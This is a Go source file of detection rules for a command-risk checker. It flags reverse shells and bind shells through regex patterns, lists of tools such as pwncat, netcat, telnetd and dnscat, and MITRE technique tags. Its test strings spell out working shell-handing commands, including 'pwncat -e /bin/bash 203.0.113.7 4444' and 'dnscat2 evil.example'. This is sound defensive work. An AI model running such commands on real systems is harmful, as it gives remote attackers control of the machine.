package judge

import "escort/explain/effect"

// aShell is a shell as a word of a command.
const aShell = `(\S*/)?((ba|z|da|k|mk|a|c|tc|fi)?sh|cmd(\.exe)?|powershell(\.exe)?|pwsh)`

// handedRules are about programs that hand a shell to whoever is at the other
// end of a line.
var handedRules = []Rule{
	{
		ID:   "reverse-shell",
		Risk: effect.Critical, Dimension: effect.Control, Technique: "T1059",
		Programs: "pwncat pwncat-cs rcat rustcat cryptcat dbd sbd gs-netcat powercat nc.exe nc64.exe ncat.exe nc111nt.exe dnscat dnscat2 icmp-shell icmpsh prism ishd",
		Words:    `\s(-\w*[ecsl]\w*|--exec|--sh-exec|--shell)(\s|=)*` + aShell + `( |$)`,
		Match:    []string{"pwncat -e /bin/bash 203.0.113.7 4444", "rcat listen -e bash 9001", "cryptcat -l -p 1 -e /bin/sh"},
		NotMatch: []string{"pwncat 203.0.113.7 80", "rcat listen 9001"},
	},
	{
		ID:   "reverse-shell",
		Risk: effect.Critical, Dimension: effect.Control, Technique: "T1059",
		Words:    `^\S+ ((-\S+|[\w.-]*\d[\d.:]*) )*(-\w*[ec]|--exec|--sh-exec|--shell|--cmd)[ =]` + aShell + `( -i)? (.* )?(\d{1,3}(\.\d{1,3}){3}[: ]\d{1,5})( |$)|^\S+ ((-\S+|[\w.-]*\d[\d.:]*) )*(\d{1,3}(\.\d{1,3}){3}[: ]\d{1,5}) (-\S+ )*(-\w*[ec]|--exec|--sh-exec|--shell|--cmd)[ =]` + aShell + `( -i)?$`,
		Match:    []string{"./agent -e /bin/sh 203.0.113.7 4444", "frob 203.0.113.7:4444 --exec bash"},
		NotMatch: []string{"xterm -e bash", "ssh -p 22 203.0.113.7 uptime", "nc 203.0.113.7 80"},
	},
	{
		ID:   "reverse-shell",
		Risk: effect.Critical, Dimension: effect.Control, Technique: "T1059", Programs: "nc ncat netcat toybox busybox",
		Words:    `^(toybox |busybox )?\S+ (.* )?-\w*[lL]\w* (.* )?` + aShell + `( -i)?$`,
		Match:    []string{"nc -l -p 9001 sh", "nc -L -p 9001 /bin/sh -i"},
		NotMatch: []string{"nc -l -p 9001", "nc -l 9001 -k"},
	},
	{
		ID: "reverse-shell", Says: "reverse-shell/lets-whoever-connects-type",
		Risk: effect.Critical, Dimension: effect.Control, Technique: "T1059",
		Programs: "telnetd utelnetd in.telnetd tcpsvd udpsvd tcpserver s6-tcpserver s6-tcpserver4 systemd-socket-activate shellinabox shellinaboxd faucet tcpwatch",
		Words:    `( |/|=|:)((ba|z|da|k|a|c)?sh)( |$)`,
		Match:    []string{"telnetd -p 9001 -l /bin/sh", "tcpsvd -vE 0.0.0.0 9001 /bin/sh", "shellinabox -s /:root:root:/:/bin/bash"},
		NotMatch: []string{"telnetd -F", "tcpsvd 0.0.0.0 21 ftpd"},
	},
	{
		ID:   "reverse-shell",
		Risk: effect.Critical, Dimension: effect.Control, Technique: "T1095", Programs: "gs-netcat",
		Words:    ` -\w*l`,
		Match:    []string{"gs-netcat -l -i", "gs-netcat -s x -l"},
		NotMatch: []string{"gs-netcat -s x -i"},
	},
	{
		ID: "reverse-shell", Says: "reverse-shell/hidden-in-other-traffic",
		Risk: effect.Critical, Dimension: effect.Control, Technique: "T1095", Programs: "icmpsh icmpsh.exe icmp-shell dnscat dnscat2 dnscat2-client",
		Words:    ` (-t |--dns|\S*[\w-]\.\w)`,
		Match:    []string{"icmpsh -t 203.0.113.7", "dnscat --dns server=203.0.113.7,port=53", "dnscat2 evil.example"},
		NotMatch: []string{"icmpsh -h", "dnscat --help"},
	},
}
